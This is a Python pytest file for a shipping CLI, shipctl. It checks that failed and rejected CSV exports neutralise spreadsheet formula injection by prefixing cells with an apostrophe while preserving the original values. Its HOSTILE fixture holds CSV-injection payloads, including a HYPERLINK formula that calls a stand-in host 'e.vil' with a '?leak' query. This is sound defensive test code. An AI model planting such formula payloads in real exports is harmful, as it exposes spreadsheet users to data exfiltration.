"""--failed and --rejects CSVs neutralise spreadsheet formulas, and read back as the values they were (defect 11).

shipctl runs as a real process against the sandbox; what comes back is read the way a user would feed it back:
`shipctl validate` on the file, and the manifest reader.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

from shipctl.manifest import InvalidRow, ValidRow, iter_rows
from shipctl.sandbox import Sandbox
from tests.manifests import row, write_manifest

HOSTILE = {
    "to_name": '=HYPERLINK("http://e.vil/?leak","click me")',
    "to_company": "@SUM(1+1)",
    "to_street1": "+1 Main St",
    "to_street2": "-5",
    "to_phone": "+1 415 555 0100",
}


def shipctl(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "shipctl", *args], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120
    )


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def validated(path: Path) -> list[dict[str, Any]]:
    result = shipctl("validate", str(path), "--output", "ndjson", "--quiet")
    assert result.returncode == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_the_failed_file_is_neutralised_and_reads_back_as_the_original(env: Sandbox, tmp_path: Path) -> None:
    # Pinned to a carrier the API does not offer: the row fails, nothing is bought, it goes to --failed.
    manifest = write_manifest(tmp_path / "orders.csv", [row(0, carrier="NoSuchCarrier", **HOSTILE)])
    failed = tmp_path / "failed.csv"
    result = shipctl("create", str(manifest), "--failed", str(failed), "-q", "-o", "ndjson")
    assert result.returncode == 3, result.stderr
    assert env.ledger() == []

    (written,) = csv_rows(failed)
    for column, value in HOSTILE.items():
        assert written[column] == "'" + value, column  # a spreadsheet shows it as text, never runs it
    assert written["reference"] == "ORD-00000"  # ordinary cells untouched

    # Fed back, every value is what the manifest said: through the CLI and through the reader.
    assert validated(failed) == validated(manifest)
    (back,) = [r for r in iter_rows(failed) if isinstance(r, ValidRow)]
    assert back.row.to_address.name == HOSTILE["to_name"]
    assert back.row.to_address.company == HOSTILE["to_company"]
    assert back.row.to_address.street1 == HOSTILE["to_street1"]
    assert back.row.to_address.street2 == "-5"


def test_the_rejects_file_is_neutralised_and_reads_back_as_the_original(env: Sandbox, tmp_path: Path) -> None:
    rows = [row(0), row(1, weight="-5", **HOSTILE)]  # invalid: a weight must be more than 0
    manifest = write_manifest(tmp_path / "orders.csv", rows)
    rejects = tmp_path / "rejects.csv"
    result = shipctl("create", str(manifest), "--skip-invalid", "--rejects", str(rejects), "-q", "-o", "ndjson")
    assert result.returncode == 3, result.stderr

    (written,) = csv_rows(rejects)
    for column, value in {**HOSTILE, "weight": "-5"}.items():
        assert written[column] == "'" + value, column
    assert written["reference"] == "ORD-00001"

    # Read back, the rejected row has the very problem it had: `'-5` is the weight -5 again, not a new error.
    (original,) = [r for r in iter_rows(manifest) if isinstance(r, InvalidRow)]
    (again,) = iter_rows(rejects)
    assert isinstance(again, InvalidRow)
    assert [(p.column, p.message) for p in again.problems] == [(p.column, p.message) for p in original.problems]

    # Fixed in the file as a user would (the weight only), it validates to the original values.
    fixed = tmp_path / "fixed.csv"
    write_manifest(fixed, [{k: v for k, v in written.items() if k not in ("line", "error")} | {"weight": "12"}])
    (back,) = validated(fixed)
    (expected,) = validated(write_manifest(tmp_path / "expected.csv", [row(1, weight="12", **HOSTILE)]))
    assert back == expected
